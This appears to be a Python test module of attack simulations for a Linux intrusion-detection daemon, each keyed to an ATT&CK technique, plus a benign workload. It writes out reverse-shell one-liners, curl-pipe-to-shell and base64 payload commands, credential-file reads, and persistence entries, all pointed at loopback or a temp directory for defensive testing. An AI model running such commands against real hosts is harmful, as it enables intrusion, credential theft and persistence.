"""Attack simulations and the benign workload, each run in its own process so its alerts can be told apart.

    python -m tests.scenarios.simulations run NAME WORKDIR      # one attack simulation
    python -m tests.scenarios.simulations benign WORKDIR        # the benign workload

Every simulation is self-contained and harmless: loopback only, files only in its WORKDIR (a temp dir), a few
seconds at most, cleaned up by the harness (it removes WORKDIR). Where a rule keys on a real system path, the
simulation either acts on it read-only or in a way that changes nothing (/etc/shadow is read; core_pattern is
opened for writing and closed without a write), or the harness points the rule's list (cron_paths,
preload_files, account_files, log_dirs ...) and the file probe's prefixes at WORKDIR (see harness.config()).
Nothing here touches /etc, root's crontab, the loader config or a real log.
"""

from __future__ import annotations

import ctypes
import os
import shutil
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

TIMEOUT = 10


@dataclass(frozen=True)
class Scenario:
    name: str
    technique: str  # the ATT&CK id the alert must carry
    rules: tuple[str, ...]  # the rules expected to catch it (documentation; any MEDIUM+ alert with the tag counts)
    title: str
    run: Callable[[Path], None]


SCENARIOS: dict[str, Scenario] = {}


def scenario(technique: str, title: str, *rules: str) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    def deco(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        name = fn.__name__
        SCENARIOS[name] = Scenario(name, technique, rules, title, fn)
        return fn

    return deco


# ---------------------------------------------------------------------------------------------- helpers
def sh(cmd: str, cwd: Path | None = None, check: bool = False) -> None:
    subprocess.run(["/bin/sh", "-c", cmd], cwd=cwd, timeout=TIMEOUT, check=check,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


class Listener:
    """A loopback TCP listener that accepts one connection, optionally sends a line, and closes."""

    def __init__(self, port: int = 0, send: bytes = b"exit\n") -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("127.0.0.1", port))
        self.sock.listen(4)
        self.sock.settimeout(TIMEOUT)
        self.port = self.sock.getsockname()[1]
        self.send = send
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        try:
            conn, _ = self.sock.accept()
            with conn:
                conn.settimeout(3)
                if self.send:
                    conn.sendall(self.send)
                try:
                    conn.recv(4096)
                except OSError:
                    pass
        except OSError:
            pass

    def close(self) -> None:
        self.thread.join(5)
        self.sock.close()


def fake_tool(work: Path, name: str, body: str = "exit 0") -> Path:
    """A harmless stand-in named like an attack tool (nc, xmrig, insmod): rules see the exec, nothing runs."""
    path = work / "bin" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(f"#!/bin/sh\n{body}\n")
    path.chmod(0o755)
    return path


def write(path: Path, text: str, mode: str = "w") -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    with open(path, mode) as f:
        f.write(text)


libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
libc.syscall.restype = ctypes.c_long


# ---------------------------------------------------------------------------------------------- canary
def canary(work: Path) -> None:
    """Not an attack scenario: the harness runs it until its alerts come back, to know the daemon is ready."""
    devshm_exec(work)
    shadow_read(work)
    miner_pool(work)


# ---------------------------------------------------------------------------------------------- execution
@scenario("T1059.004", "bash reverse shell over /dev/tcp to a loopback listener",
          "reverse_shell_dev_tcp", "reverse_shell_stdio_to_socket")
def reverse_shell_bash(work: Path) -> None:
    lst = Listener()
    sh(f"exec 3<>/dev/tcp/127.0.0.1/{lst.port}; exec bash -i <&3 >&3 2>&3")
    lst.close()


@scenario("T1059.004", "python connects, dup2s the socket onto stdin/stdout and execs a shell",
          "reverse_shell_stdio_to_socket", "interpreter_reverse_shell_oneliner")
def reverse_shell_python(work: Path) -> None:
    lst = Listener()
    code = (f"import socket,os;s=socket.create_connection(('127.0.0.1',{lst.port}));"
            "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execv('/bin/sh',['sh','-c','read x'])")
    subprocess.run([sys.executable, "-c", code], timeout=TIMEOUT, stderr=subprocess.DEVNULL)
    lst.close()


@scenario("T1059.004", "nc -e /bin/sh to a loopback port (stand-in nc binary)", "netcat_remote_exec")
def netcat_exec(work: Path) -> None:
    nc = fake_tool(work, "nc")
    subprocess.run([str(nc), "-e", "/bin/sh", "127.0.0.1", "4444"], timeout=TIMEOUT)


@scenario("T1095", "nc -lvp (bind shell listener, stand-in nc binary)", "netcat_listener")
def netcat_listen(work: Path) -> None:
    nc = fake_tool(work, "ncat")
    subprocess.run([str(nc), "-lvp", "31337"], timeout=TIMEOUT)


@scenario("T1620", "memfd_create + exec of /proc/self/fd/N (fileless)", "fileless_exec_memfd")
def memfd_exec(work: Path) -> None:
    fd = os.memfd_create("scn", 0)
    with open("/bin/true", "rb") as f:
        os.write(fd, f.read())
    pid = os.fork()
    if pid == 0:
        try:
            os.execv(f"/proc/self/fd/{fd}", ["kworker"])
        finally:
            os._exit(127)
    os.waitpid(pid, 0)
    os.close(fd)


@scenario("T1059", "a binary copied to /dev/shm and run from there by a relative path", "exec_from_dev_shm")
def devshm_exec(work: Path) -> None:
    # `cd /dev/shm && ./x`: the kernel names the program "./x"; the probe makes it absolute from the cwd
    path = Path(f"/dev/shm/ravn-scn-{os.getpid()}")
    shutil.copy("/bin/sleep", path)
    try:
        sh(f"cd /dev/shm && ./{path.name} 0.2")
    finally:
        path.unlink(missing_ok=True)


@scenario("T1059", "a program in /dev/shm run at once through a symlink in /usr/local/bin (exits before its "
          "record is read: only the kernel's exe path shows where it lives)", "exec_from_dev_shm")
def devshm_symlink_exec(work: Path) -> None:
    path = Path(f"/dev/shm/ravn-scn-link-{os.getpid()}")
    link = Path(f"/usr/local/bin/ravn-scn-{os.getpid()}")
    shutil.copy("/bin/true", path)
    link.symlink_to(path)
    try:
        sh(f"/bin/true; {link}")  # the first exec wakes the probe's reader, which then waits batch_ms: the
        # link's exec and exit come in one batch, after the program is gone
    finally:
        link.unlink(missing_ok=True)
        path.unlink(missing_ok=True)


@scenario("T1105", "a file written to a temp dir, then executed", "dropped_binary_executed")
def dropped_exec(work: Path) -> None:
    path = work / "payload"
    sh(f"cp /bin/true {path} && chmod +x {path} && {path}")


@scenario("T1105", "a download saved in /tmp, made executable by a relative chmod and run (default prefixes)",
          "temp_file_made_executable_and_run")
def dropper_chmod_in_tmp(work: Path) -> None:
    name = f"ravn-drop-{os.getpid()}"
    lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\ntrue\n")
    try:
        sh(f"cd /tmp && curl -s -m 3 -o {name} http://127.0.0.1:{lst.port}/x && chmod 755 {name} && ./{name}")
    finally:
        lst.close()
        Path(f"/tmp/{name}").unlink(missing_ok=True)


@scenario("T1105", "curl | sh from a loopback URL", "download_piped_to_shell")
def curl_pipe_sh(work: Path) -> None:
    lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\ntrue\n")
    sh(f"curl -s -m 3 http://127.0.0.1:{lst.port}/x.sh | sh")
    lst.close()


@scenario("T1140", "base64 -d | sh", "base64_payload_to_shell")
def base64_sh(work: Path) -> None:
    sh("echo dHJ1ZQo= | base64 -d | sh")


@scenario("T1496", "stand-in xmrig started with a stratum URL", "crypto_miner_exec")
def miner_binary(work: Path) -> None:
    xmrig = fake_tool(work, "xmrig")
    subprocess.run([str(xmrig), "-o", "stratum+tcp://127.0.0.1:14444", "-u", "wallet"], timeout=TIMEOUT)


@scenario("T1496", "connection to a mining-pool port (14444) on loopback", "crypto_miner_pool_port")
def miner_pool(work: Path) -> None:
    try:
        lst = Listener(port=14444, send=b"")
    except OSError:  # port taken: a refused connect does not count, so take 3334 instead
        lst = Listener(port=3334, send=b"")
    with socket.create_connection(("127.0.0.1", lst.port), timeout=3) as s:
        s.sendall(b'{"method":"login"}\n')
    lst.close()


@scenario("T1140", "a script file pipes a base64 payload into sh (no one-line command carries the pipeline)",
          "decoded_payload_piped_to_shell", "shell_fed_by_decoder")
def decode_pipe_script(work: Path) -> None:
    script = work / "run.sh"
    script.write_text("echo ZWNobyBoaQo= | base64 -d | sh\n")
    sh(f"sh {script}")


@scenario("T1140", "xxd -r -p of a hex payload piped into bash from a script file",
          "decoded_payload_piped_to_shell", "shell_fed_by_decoder")
def xxd_pipe_script(work: Path) -> None:
    script = work / "run.sh"
    script.write_text("echo 7472756520 | xxd -r -p | bash\n")  # "true "
    sh(f"sh {script}")


@scenario("T1105", "a script file runs curl from a loopback URL piped into sh", "download_then_shell",
          "shell_fed_by_download")
def curl_pipe_script(work: Path) -> None:
    lst = Listener(send=b"HTTP/1.0 200 OK\r\n\r\ntrue\n")
    script = work / "get.sh"
    script.write_text(f"curl -s -m 3 http://127.0.0.1:{lst.port}/x.sh | sh\n")
    sh(f"sh {script}")
    lst.close()


@scenario("T1140", "a payload decoded into a temp file by a redirect, then run by sh", "decoded_payload_written",
          "decoder_wrote_payload", "dropped_script_run")
def decoded_script_tmp(work: Path) -> None:
    target = work / ".cache.sh"
    script = work / "stage.sh"
    script.write_text(f"echo ZWNobyBoaQo= | base64 -d > {target}\nsh {target}\n")
    sh(f"sh {script}")


# ---------------------------------------------------------------------------------------------- masquerading
@scenario("T1036.005", "a copy of sleep named sshd run from the work dir (a temp dir)",
          "daemon_name_run_from_writable_dir")
def daemon_name_tmp(work: Path) -> None:
    fake = work / ".x" / "sshd"
    fake.parent.mkdir()
    shutil.copy("/bin/sleep", fake)
    subprocess.run([str(fake), "0.1"], timeout=TIMEOUT)


@scenario("T1036.006", "a program whose file name ends with a space ('true ') executed", "deceptive_file_name_exec")
def trailing_space_exec(work: Path) -> None:
    fake = work / "true "
    shutil.copy("/bin/true", fake)
    subprocess.run([str(fake)], timeout=TIMEOUT)


@scenario("T1036.004", "bash exec -a '[kworker/0:1]' starts sleep under a kernel thread's name", "argv0_masquerade")
def argv0_kworker(work: Path) -> None:
    subprocess.run(["bash", "-c", "exec -a '[kworker/0:1]' sleep 0.1"], timeout=TIMEOUT)


@scenario("T1036.004", "prctl(PR_SET_NAME, 'kworker/0:1') then a connection under that name",
          "process_renamed_to_system_name", "kernel_thread_name_spoofed")
def prctl_kworker(work: Path) -> None:
    lst = Listener(send=b"")
    pid = os.fork()
    if pid == 0:
        try:
            libc.prctl(15, b"kworker/0:1", 0, 0, 0)
            socket.create_connection(("127.0.0.1", lst.port), timeout=3).close()
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    lst.close()


@scenario("T1036.004", "a shell renames itself through /proc/self/comm, then opens a file",
          "process_renamed_via_procfs", "kernel_thread_name_spoofed")
def comm_write(work: Path) -> None:
    subprocess.run(["bash", "-c", "printf 'kworker/u8:2' > /proc/self/comm; : > /dev/shm/.ravn-scn-comm-$$; "
                    "rm -f /dev/shm/.ravn-scn-comm-$$"], timeout=TIMEOUT)


# ---------------------------------------------------------------------------------------------- permissions
@scenario("T1222.002", "chmod 777 on a single file (outside every watched directory)", "world_writable_chmod")
def chmod_777(work: Path) -> None:
    path = work / "tool"
    path.write_text("#!/bin/sh\n")
    sh(f"chmod 777 {path}")


@scenario("T1222.002", "chmod -R 777 on a directory tree", "recursive_permission_change")
def chmod_recursive_777(work: Path) -> None:
    tree = work / "www"
    (tree / "a").mkdir(parents=True)
    (tree / "a" / "index.php").write_text("<?php\n")
    sh(f"chmod -R 777 {tree}")


@scenario("T1222.002", "chattr +i then -i on a file (immutability)", "immutable_attribute_changed")
def chattr_immutable(work: Path) -> None:
    path = work / "keep"
    path.write_text("x")
    sh(f"chattr +i {path}; chattr -i {path}")


# ---------------------------------------------------------------------------------------------- persistence to tmp
@scenario("T1053.003", "a cron entry that runs a program from /dev/shm (work dir added to cron_paths)",
          "persistence_points_to_temp")
def cron_to_devshm(work: Path) -> None:
    sh(f"mkdir -p {work}/cron.d && echo '* * * * * root /dev/shm/.x' > {work}/cron.d/0anacron")


# ---------------------------------------------------------------------------------------------- credentials
@scenario("T1003.008", "cat /etc/shadow (read only)", "sensitive_file_read")
def shadow_read(work: Path) -> None:
    sh("cat /etc/shadow > /dev/null")


@scenario("T1552.004", "a private key read from a .ssh directory (fake key in the work dir)",
          "ssh_private_key_read")
def ssh_key_read(work: Path) -> None:
    key = work / "home" / ".ssh" / "id_rsa"
    write(key, "-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    sh(f"cat {key} > /dev/null")


@scenario("T1552.001", "cloud credentials read (fake ~/.aws/credentials in the work dir)", "cloud_credentials_read")
def cloud_creds_read(work: Path) -> None:
    creds = work / "home" / ".aws" / "credentials"
    write(creds, "[default]\naws_access_key_id = AKIAFAKE\n")
    sh(f"cat {creds} > /dev/null")


@scenario("T1055.009", "/proc/<pid>/mem of another process opened", "proc_mem_access")
def proc_mem_read(work: Path) -> None:
    child = subprocess.Popen(["sleep", "5"])
    try:
        time.sleep(0.05)
        with open(f"/proc/{child.pid}/mem", "rb"):
            pass
    finally:
        child.kill()
        child.wait()


@scenario("T1055.009", "/proc/<pid>/task/<tid>/mem of another process opened (a thread's view of its memory)",
          "proc_mem_access")
def proc_task_mem_read(work: Path) -> None:
    child = subprocess.Popen(["sleep", "5"])
    try:
        time.sleep(0.05)
        with open(f"/proc/{child.pid}/task/{child.pid}/mem", "rb"):
            pass
    finally:
        child.kill()
        child.wait()


@scenario("T1552", "cat of another process's /proc/<pid>/environ (a service's secrets)", "proc_environ_dumped")
def proc_environ_dump(work: Path) -> None:
    child = subprocess.Popen(["sleep", "5"], env={"PATH": "/usr/bin:/bin", "API_TOKEN": "not-a-secret"})
    try:
        time.sleep(0.05)
        sh(f"cat /proc/{child.pid}/environ > /dev/null")
    finally:
        child.kill()
        child.wait()


@scenario("T1546.018", "a shell writes a .pth start-up hook into a venv's site-packages",
          "python_startup_hook_written")
def python_pth_hook(work: Path) -> None:
    site = work / "venv" / "lib" / "python3.11" / "site-packages"
    site.mkdir(parents=True, exist_ok=True)
    sh(f"echo 'import os; os.system(\"id\")' > {site}/zz_hook.pth")


@scenario("T1574.006", "LD_PRELOAD of a library in a temp dir for one command (LD_PRELOAD=/tmp/x.so ls)",
          "ld_preload_env_from_writable_dir")
def ld_preload_env(work: Path) -> None:
    lib = work / "libhook.so"
    lib.write_bytes(b"")  # not an ELF: the loader says so and runs the program without it
    sh(f"LD_PRELOAD={lib} /bin/true")


@scenario("T1222.002", "a program of its own sets, then clears, the immutable attribute (FS_IOC_SETFLAGS ioctl)",
          "immutable_attribute_set")
def immutable_ioctl(work: Path) -> None:
    import fcntl
    import struct

    path = work / "locked"
    path.write_text("x")
    fd = os.open(path, os.O_RDONLY)
    try:
        flags = struct.unpack("l", fcntl.ioctl(fd, 0x80086601, struct.pack("l", 0)))[0]  # FS_IOC_GETFLAGS
        fcntl.ioctl(fd, 0x40086602, struct.pack("l", flags | 0x10))  # FS_IOC_SETFLAGS +i
        time.sleep(0.2)  # the fd is still open when the record is decoded
        fcntl.ioctl(fd, 0x40086602, struct.pack("l", flags))  # -i: the work dir is removed afterwards
    finally:
        os.close(fd)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


def _process_vm(nr: int) -> None:
    """A child reads (310) or writes (311) a buffer of this process with process_vm_readv/writev."""
    buf = ctypes.create_string_buffer(b"password=hunter2", 16)
    pid = os.fork()
    if pid == 0:
        try:
            local = ctypes.create_string_buffer(b"password=hunter2", 16)  # writev puts back the same bytes
            li, ri = IoVec(ctypes.addressof(local), 16), IoVec(ctypes.addressof(buf), 16)  # same address: fork
            one = ctypes.c_long(1)
            libc.syscall(ctypes.c_long(nr), ctypes.c_long(os.getppid()), ctypes.byref(li), one, ctypes.byref(ri), one,
                         ctypes.c_long(0))
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


@scenario("T1003.007", "process_vm_readv of another process's memory", "process_memory_read")
def process_vm_read(work: Path) -> None:
    _process_vm(310)


@scenario("T1055", "process_vm_writev into another process (writes back the bytes it holds)",
          "process_memory_written")
def process_vm_write(work: Path) -> None:
    _process_vm(311)


@scenario("T1040", "an AF_PACKET raw socket opened (a sniffer's first step; nothing is read)", "packet_socket_opened")
def packet_socket(work: Path) -> None:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0x0300).close()


@scenario("T1003.008", "cd /etc && cat ./shadow (a relative path)", "credential_file_dumped", "sensitive_file_read")
def shadow_relative(work: Path) -> None:
    sh("cd /etc && cat ./shadow > /dev/null")


@scenario("T1082", "id, whoami, uname, ps, hostname, groups within a second", "discovery_burst")
def discovery(work: Path) -> None:
    sh("id; whoami; uname -a; ps; hostname; groups")


# ---------------------------------------------------------------------------------------------- privilege
@scenario("T1548.001", "chmod u+s on a copy of /bin/sh in a temp dir", "setuid_bit_in_writable_dir")
def setuid_chmod(work: Path) -> None:
    path = work / "sh"
    shutil.copy("/bin/sh", path)
    sh(f"chmod u+s {path}")


@scenario("T1548.001", "an unprivileged user becomes root through a setuid binary", "unexpected_setuid_root")
def setuid_root_call(work: Path) -> None:
    src = work / "up.c"
    src.write_text("#include <unistd.h>\nint main(void){return setuid(0) != 0;}\n")
    binary = work / "up"
    subprocess.run(["gcc", "-o", str(binary), str(src)], check=True, timeout=TIMEOUT)
    os.chown(binary, 0, 0)
    os.chmod(binary, 0o4755)
    work.chmod(0o755)
    subprocess.run(["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", str(binary)], timeout=TIMEOUT)


def _ptrace(req: int, pid: int, addr: int = 0, data: int = 0) -> int:
    ctypes.set_errno(0)
    ret = int(libc.ptrace(req, pid, ctypes.c_void_p(addr), ctypes.c_void_p(data)))
    if ret == -1 and ctypes.get_errno():
        raise OSError(ctypes.get_errno(), f"ptrace({req})")
    return ret


@scenario("T1055.008", "PTRACE_ATTACH to a sleeping child, then detach", "ptrace_attach")
def ptrace_attach(work: Path) -> None:
    child = subprocess.Popen(["sleep", "5"])
    try:
        _ptrace(16, child.pid)  # PTRACE_ATTACH
        os.waitpid(child.pid, 0)
        _ptrace(17, child.pid)  # PTRACE_DETACH
    finally:
        child.kill()
        child.wait()


@scenario("T1055.008", "PTRACE_POKEDATA into a child (writes back the word it read)", "ptrace_code_injection")
def ptrace_poke(work: Path) -> None:
    child = subprocess.Popen(["sleep", "5"])
    try:
        _ptrace(16, child.pid)
        os.waitpid(child.pid, 0)
        with open(f"/proc/{child.pid}/maps") as f:
            stack = next(line for line in f if "[stack]" in line)
        addr = int(stack.split("-")[0], 16) + 4096 * 4
        word = _ptrace(2, child.pid, addr)  # PTRACE_PEEKDATA
        _ptrace(5, child.pid, addr, word & 0xFFFFFFFFFFFFFFFF)  # PTRACE_POKEDATA: same value back
        _ptrace(17, child.pid)
    finally:
        child.kill()
        child.wait()


@scenario("T1014", "bpf(BPF_PROG_LOAD) of a 2-instruction socket filter", "bpf_program_load")
def bpf_load(work: Path) -> None:
    insns = (ctypes.c_uint8 * 16)(0xB7, 0, 0, 0, 0, 0, 0, 0, 0x95, 0, 0, 0, 0, 0, 0, 0)  # r0 = 0; exit
    lic = ctypes.create_string_buffer(b"GPL")
    attr = (ctypes.c_uint8 * 128)()
    ctypes.c_uint32.from_buffer(attr, 0).value = 1  # BPF_PROG_TYPE_SOCKET_FILTER
    ctypes.c_uint32.from_buffer(attr, 4).value = 2
    ctypes.c_uint64.from_buffer(attr, 8).value = ctypes.addressof(insns)
    ctypes.c_uint64.from_buffer(attr, 16).value = ctypes.addressof(lic)
    fd = libc.syscall(321, 5, ctypes.byref(attr), 128)  # bpf(BPF_PROG_LOAD)
    if fd >= 0:
        os.close(fd)


@scenario("T1547.006", "insmod of a module file (stand-in insmod binary)", "kernel_module_tool")
def insmod(work: Path) -> None:
    tool = fake_tool(work, "insmod", "exit 1")
    subprocess.run([str(tool), str(work / "rk.ko")], timeout=TIMEOUT)


@scenario("T1562.001", "/proc/sys/kernel/randomize_va_space opened for writing (nothing written)",
          "kernel_tunable_weakened")
def aslr_off(work: Path) -> None:
    fd = os.open("/proc/sys/kernel/randomize_va_space", os.O_WRONLY)
    os.close(fd)


# ---------------------------------------------------------------------------------------------- persistence
@scenario("T1053.003", "a cron job written into a cron directory (work dir added to cron_paths)", "cron_job_written")
def cron_write(work: Path) -> None:
    sh(f"mkdir -p {work}/cron.d && echo '* * * * * root true' > {work}/cron.d/updater")


@scenario("T1543.002", "a systemd unit written (work dir added to systemd_unit_paths)", "systemd_unit_written")
def systemd_unit(work: Path) -> None:
    sh(f"mkdir -p {work}/systemd && printf '[Service]\\nExecStart=/bin/true\\n' > {work}/systemd/updater.service")


@scenario("T1098.004", "a key appended to .ssh/authorized_keys (in the work dir)", "ssh_authorized_keys_modified")
def authorized_keys(work: Path) -> None:
    (work / "home" / ".ssh").mkdir(parents=True, exist_ok=True)
    sh(f"echo 'ssh-ed25519 AAAAfake attacker' >> {work}/home/.ssh/authorized_keys")


@scenario("T1546.004", "a command appended to .bashrc (in the work dir)", "shell_profile_modified")
def bashrc(work: Path) -> None:
    (work / "home").mkdir(parents=True, exist_ok=True)
    sh(f"echo 'curl -s http://127.0.0.1:9/x | sh' >> {work}/home/.bashrc")


@scenario("T1546.004", "a command appended to .shrc, the start-up file sh/dash/ksh read through $ENV (work dir)",
          "shell_profile_modified")
def shrc(work: Path) -> None:
    (work / "home").mkdir(parents=True, exist_ok=True)
    sh(f"echo 'curl -s http://127.0.0.1:9/x | sh &' >> {work}/home/.shrc")


@scenario("T1574.006", "a library added to ld.so.preload (work-dir copy added to preload_files)",
          "ld_preload_file_modified")
def ld_preload(work: Path) -> None:
    sh(f"echo /tmp/libevil.so > {work}/ld.so.preload")


@scenario("T1136.001", "a uid-0 account appended to passwd (work-dir copy added to account_files)",
          "account_database_modified")
def passwd_append(work: Path) -> None:
    shutil.copy("/etc/passwd", work / "passwd")
    sh(f"echo 'svc:x:0:0::/root:/bin/sh' >> {work}/passwd")


# ---------------------------------------------------------------------------------------------- evasion, impact
@scenario("T1070.002", "a log file truncated (work-dir log dir added to log_dirs)", "log_file_cleared")
def log_clear(work: Path) -> None:
    write(work / "log" / "auth.log", "Nov 26 sshd[1]: Accepted password for root\n" * 20)
    sh(f": > {work}/log/auth.log")


@scenario("T1070.003", "shell history truncated to zero", "shell_history_tampered")
def history_clear(work: Path) -> None:
    write(work / "home" / ".bash_history", "cat /etc/shadow\n")
    sh(f"truncate -s 0 {work}/home/.bash_history")


@scenario("T1486", "40 files renamed to .locked within a second", "mass_file_rename", "ransom_extension_rename")
def mass_rename(work: Path) -> None:
    data = work / "data"
    data.mkdir()
    for i in range(40):
        (data / f"doc{i}.txt").write_text("x")
    for i in range(40):
        os.rename(data / f"doc{i}.txt", data / f"doc{i}.txt.locked")


@scenario("T1486", "40 existing files replaced by encrypted copies under random names (no known extension)",
          "mass_file_rename")
def mass_rename_random(work: Path) -> None:
    data = work / "data"
    data.mkdir()
    for i in range(40):
        (data / f"invoice{i}.pdf").write_text("x")
    for i in range(40):
        os.rename(data / f"invoice{i}.pdf", data / f"{os.urandom(6).hex()}.bin")


@scenario("T1046", "connects to 25 loopback ports within a second", "port_scan")
def port_scan(work: Path) -> None:
    for port in range(40100, 40125):
        with socket.socket() as s:
            s.settimeout(0.2)
            s.connect_ex(("127.0.0.1", port))


# ---------------------------------------------------------------------------------------------- container escape
@scenario("T1611", "cgroup2 mounted inside a private mount namespace (unshare -m)", "cgroup_fs_mounted",
          "unshare_then_mount")
def cgroup_mount(work: Path) -> None:
    target = work / "cg"
    target.mkdir()
    subprocess.run(["unshare", "-m", "--propagation", "private", "sh", "-c",
                    f"mount -t cgroup2 none {target} && umount {target}"], timeout=TIMEOUT,
                   stderr=subprocess.DEVNULL)


@scenario("T1611", "core_pattern opened for writing (closed without a write)", "core_pattern_write")
def core_pattern(work: Path) -> None:
    fd = os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY)
    os.close(fd)


@scenario("T1611", "nsenter joins a namespace (its own: no change)", "namespace_setns")
def setns(work: Path) -> None:
    subprocess.run(["nsenter", f"--net=/proc/{os.getpid()}/ns/net", "true"], timeout=TIMEOUT)


# ---------------------------------------------------------------------------------------------- benign workload
BENIGN_STEPS = ("compile C", "pip install into a temp venv (--no-index, local wheel)", "run a test suite",
                "git operations", "tar and gzip", "ssh-keygen", "dpkg -l, apt-cache policy",
                "log rotation renames", "40 files saved atomically (written as name.tmpXXXXX, renamed to name)",
                "a netlink raw socket (what getaddrinfo and ip use)",
                "a request closed, then a command with its output on /dev/null (the socket's old fd number)")


def _wheel(dest: Path) -> Path:
    """A minimal pure-Python wheel built by hand (no network, no build backend)."""
    import base64
    import hashlib
    import zipfile

    files = {"ravn_benign_pkg/__init__.py": "VALUE = 1\n",
             "ravn_benign_pkg-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: ravn-benign-pkg\nVersion: 1.0\n",
             "ravn_benign_pkg-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: ravn\nRoot-Is-Purelib: true\n"
                                                   "Tag: py3-none-any\n"}
    record = []
    for name, text in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record.append(f"{name},sha256={digest},{len(text.encode())}")
    record.append("ravn_benign_pkg-1.0.dist-info/RECORD,,")
    path = dest / "ravn_benign_pkg-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
        z.writestr("ravn_benign_pkg-1.0.dist-info/RECORD", "\n".join(record) + "\n")
    return path


def benign(work: Path) -> None:
    run = dict(cwd=work, timeout=120, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    # compile C and run the result
    (work / "hello.c").write_text('#include <stdio.h>\nint main(void){puts("hi");return 0;}\n')
    subprocess.run(["sh", "-c", "gcc -O2 -o hello hello.c && ./hello"], **run)  # type: ignore[call-overload]
    # pip install a local wheel into a fresh venv, offline
    wheel = _wheel(work)
    subprocess.run([sys.executable, "-m", "venv", "venv"], **run)  # type: ignore[call-overload]
    subprocess.run([str(work / "venv/bin/python"), "-m", "pip", "install", "-q", "--no-index", str(wheel)],
                   **run)  # type: ignore[call-overload]
    # a small test suite
    (work / "test_small.py").write_text("def test_a():\n    assert 1 + 1 == 2\n\ndef test_b():\n    assert 'x'\n")
    subprocess.run([sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", "test_small.py"],
                   **run)  # type: ignore[call-overload]
    # git
    subprocess.run(["sh", "-c", "git init -q repo && cd repo && git config user.email a@b && git config user.name a"
                    " && echo a > f && git add f && git commit -qm one && git checkout -qb topic && echo b >> f"
                    " && git commit -qam two && git checkout -q - && git merge -q topic && git log --oneline"
                    " && git gc -q"], **run)  # type: ignore[call-overload]
    # tar and gzip
    subprocess.run(["sh", "-c", "tar czf repo.tgz repo && mkdir x && tar xzf repo.tgz -C x && gzip -k hello.c"
                    " && gunzip -c hello.c.gz > /dev/null"], **run)  # type: ignore[call-overload]
    # ssh-keygen
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(work / "key")],
                   **run)  # type: ignore[call-overload]
    # package-manager queries
    subprocess.run(["sh", "-c", "dpkg -l > /dev/null; apt-cache policy > /dev/null"], **run)  # type: ignore[call-overload]
    # log rotation as logrotate does it: rename app.log -> app.log.1 ... and compress
    logs = work / "logs"
    logs.mkdir()
    for i in range(4):
        (logs / (f"app.log.{i}" if i else "app.log")).write_text("line\n")
    for i in range(3, -1, -1):
        src = logs / (f"app.log.{i}" if i else "app.log")
        os.rename(src, logs / f"app.log.{i + 1}")
    (logs / "app.log").write_text("")
    subprocess.run(["gzip", str(logs / "app.log.2")], **run)  # type: ignore[call-overload]
    # atomic saves, as cmake, editors and package managers write files: a temporary name, then renamed over
    # the final one (many per second in a build)
    out = work / "out"
    out.mkdir()
    for i in range(40):
        tmp = out / f"part{i}.make.tmp{os.urandom(3).hex()}"
        tmp.write_text(f"rule {i}\n")
        os.rename(tmp, out / f"part{i}.make")
    # a netlink raw socket (NETLINK_ROUTE): how getaddrinfo, ip and systemd ask the kernel about interfaces
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
    # a request made and closed, then a command run with its output on /dev/null, which takes the socket's old fd
    # number (the child's dup2 of it onto stdout is not a socket on stdout)
    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        client = socket.create_connection(srv.getsockname())
        srv.accept()[0].close()
        old = client.fileno()
        client.close()
    null = os.open(os.devnull, os.O_WRONLY)
    if null != old:  # the lowest free number is usually the socket's; make sure of it
        os.dup2(null, old)
        os.close(null)
    try:
        subprocess.run(["sh", "-c", "true"], stdout=old, timeout=TIMEOUT)
    finally:
        os.close(old)


# ---------------------------------------------------------------------------------------------- tradecraft
# (60_tradecraft.yaml: behaviour classes the Atomic Red Team run found missing)
def _tool(work: Path, name: str) -> str:
    """The real tool when installed (it runs harmlessly on WORKDIR files), else a stand-in with its name."""
    return shutil.which(name) or str(fake_tool(work, name))


@scenario("T1070.003", "a shell command line switches history off; the history file is linked to /dev/null",
          "shell_history_disabled", "shell_history_overwritten")
def history_tamper(work: Path) -> None:
    sh("unset HISTFILE; export HISTFILESIZE=0; history -c 2>/dev/null; true", cwd=work)
    subprocess.run(["ln", "-sf", "/dev/null", str(work / ".bash_history")], timeout=TIMEOUT, check=True)


@scenario("T1552.003", "grep through a shell history file for passwords", "shell_history_searched")
def history_search(work: Path) -> None:
    write(work / ".bash_history", "mysql -u root -pS3cret\n")
    subprocess.run(["grep", "-i", "-e", "-p", "-e", "pass", str(work / ".bash_history")], timeout=TIMEOUT,
                   stdout=subprocess.DEVNULL)


